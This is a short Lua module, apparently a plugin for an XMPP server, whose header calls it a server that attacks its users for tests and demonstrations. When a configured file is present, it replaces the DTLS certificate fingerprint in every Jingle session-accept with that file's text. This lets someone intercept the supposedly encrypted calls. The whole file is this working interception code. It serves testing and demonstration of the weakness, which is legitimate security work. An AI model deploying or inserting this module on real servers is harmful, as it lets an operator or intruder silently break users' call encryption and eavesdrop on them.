-- A server that attacks its users: while the file that tamper_file names is there, its text takes the place of the
-- certificate's fingerprint (XEP-0320) in every session-accept (XEP-0166). For tests and demonstrations only.

local XMLNS_JINGLE, XMLNS_DTLS = "urn:xmpp:jingle:1", "urn:xmpp:jingle:apps:dtls:0";
local FIRST = 10000; -- hooks of a higher priority run earlier

local path = assert(module:get_option_string("tamper_file"), "tamper_file is not set");

local function swap(element, text)
	if element.name == "fingerprint" and element.attr.xmlns == XMLNS_DTLS then
		element[1] = text;
	end
	for _, child in ipairs(element.tags) do
		swap(child, text);
	end
end

module:hook("pre-iq/full", function (event)
	local jingle = event.stanza:get_child("jingle", XMLNS_JINGLE);
	local orders = jingle and jingle.attr.action == "session-accept" and io.open(path);
	if orders then
		swap(jingle, orders:read("*a"));
		orders:close();
	end
end, FIRST);
